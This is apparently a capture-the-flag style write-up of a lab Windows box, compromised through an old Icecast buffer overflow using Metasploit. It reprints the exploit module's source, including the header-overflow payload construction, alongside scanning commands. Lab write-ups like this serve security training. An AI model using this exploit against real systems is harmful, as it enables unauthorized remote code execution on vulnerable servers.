Quick Summary

Hey guys this is my write-up about Dummy from Wizard Labs. If you don’t know them , They are a new penetration testing lab, They have 16 boxes so far and Dummy is their first box to retire. This lab is nice I definitely recommend checking it out. Dummy is a windows box and it was an easy one (Difficulty: 2/10). It had an httpservice which was vulnerable to a buffer overflow , and metasploit had a module for it so this box can be done easily through metasploit . I will show that, then we will take a look at the exploit and how it’s happening. The ip of the box is so let’s jump right in.


As we always do we will start by scanning the box with nmap , so :

nmap -sV -sT -sC

We see a lot of open ports , most of the http ports are running Microsoft HTTPAPI, we will ignore that and look at other things. We also see that thebox has smb which is an interesting thing to look at so let’s try smbmap

smbmap -H

And we immediately get Access Denied so smb is not helpful here.

On port 8000 there’s an http server and it’s not running Microsoft HTTPAPI , it’s running Icecast streaming media server. Let’s check that port


If we go to that port we get a 404 response which is odd. We can try bruteforcing directories with dirbuster but that won’t help too much.

By searching online we will find that an old version of icecast had a buffer overflow vulnerability which allowed for a remote code execution (RCE). And we also find a metasploit module . So let’s open metasploit and search for icecast modules.


By doing search icecast we will find the module , and it’s an exploit from 2004.use windows/http/icecast_header
set LHOST 10.253.xx.xx

And we got a meterpreter session. we can drop a shell by typing shell then if we type whoami we will find that we are already Administrator so no need for privilege escalation

Then we can grab the flags

Header Overwrite

So now we did the box , but let’s understand the exploit. basically it’s a buffer overflow vulnerability, it happens because that version of icecast only accepted a maximum of 32 headers in the HTTP request , so if a request had 32 headers this caused the return address of the vulnerable function to be overwritten with a pointer to the begining of the header number 32. this means that anything we add as the 32nd header will be executed

So if we make a request with 31 headers and add shellcode as the 32nd header we can get a reverse shell and that’s what metasploit is doing. But if we look at the source of the module :

# This module requires Metasploit: https://metasploit.com/download
# Current source: https://github.com/rapid7/metasploit-framework

class MetasploitModule < Msf::Exploit::Remote
  Rank = GreatRanking

  include Msf::Exploit::Remote::Tcp

  def initialize(info = {})
      'Name'           => 'Icecast Header Overwrite',
      'Description'    => %q{
        This module exploits a buffer overflow in the header parsing of icecast
        versions 2.0.1 and earlier, discovered by Luigi Auriemma. Sending 32
        HTTP headers will cause a write one past the end of a pointer array. On
        win32 this happens to overwrite the saved instruction pointer, and on
        linux (depending on compiler, etc) this seems to generally overwrite
        nothing crucial (read not exploitable).

        This exploit uses ExitThread(), this will leave icecast thinking the
        thread is still in use, and the thread counter won't bedecremented.
        This means for each time your payload exits, the counter will be left
        incremented, and eventually the threadpool limit will be maxed. So you
        can multihit, but only till you fill the threadpool.
      'Author'         => [ 'spoonm', 'Luigi Auriemma <aluigi[at]autistici.org>' ],
      'License'        => MSF_LICENSE,
      'References'     =>
          [ 'CVE', '2004-1561'],
          [ 'OSVDB', '10406'],
          [ 'BID', '11271'],
          [ 'URL', 'http://archives.neohapsis.com/archives/bugtraq/2004-09/0366.html'],'Privileged'     => false,
      'DefaultOptions' =>
          'EXITFUNC' => 'thread',
      'Payload'        =>
          'Space'    => 2000,
          'BadChars' => "\x0d\x0a\x00",
          'DisableNops' => true,
          'StackAdjustment' => -3500,
      'Platform'       => 'win',
      'Targets'        =>
          [ 'Automatic', { }],
      'DisclosureDate' => 'Sep 28 2004',
      'DefaultTarget' => 0))


  # Interesting that ebp is pushed after the local variables, and the line array
  # is right before the saved eip, so overrunning it just by 1 element overwrites
  # eip, making an interesting exploit....# .text:00414C00                 sub     esp, 94h
  #.text:00414C06                 push    ebx
  # .text:00414C07                 push    ebp
  # .text:00414C08                 push    esi

  def exploit

    # bounce bounce bouncey bounce.. (our chunk gets free'd, so do a little dance)
    # jmp 12
    evul = "\xeb\x0c / HTTP/1.1 #{payload.encoded}\r\n"
    evul <<"Accept: text/html\r\n" * 31;

    # jmp [esp+4]
    evul << "\xff\x64\x24\x04\r\n"
    evul << "\r\n"



There’s not much detail because it’s based on metasploit so luckily I found this refrence which had a poc c code.

By looking at this part of the code :

We can see how the exploit is working. It’s doing a GET request , adding 31 “a”s as headers , then the 32nd header is the shellcode.

That’s it , Feedback is appreciated !

Don’t forget to read theprevious write-ups , Tweet about the write-up if you liked it , follow on twitter for awesome resources @Ahm3d_H3sham

Thanks forreading.

Next Wizard Labs Write-up : Wizard Labs - Devlife